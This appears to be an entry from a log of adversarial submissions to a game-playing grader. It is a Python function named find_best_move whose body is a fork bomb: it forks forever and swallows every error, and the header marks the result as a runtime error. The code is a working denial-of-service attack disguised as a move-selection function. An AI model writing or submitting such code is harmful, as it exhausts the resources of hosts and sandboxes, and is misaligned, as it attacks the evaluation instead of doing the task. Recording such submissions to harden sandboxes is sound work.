# idea: forks in every child for ever and swallows every refusal
# verdict: runtime_error
# reason: 64
import os


def find_best_move(board):
    while True:
        try:
            os.fork()
        except BaseException:
            continue
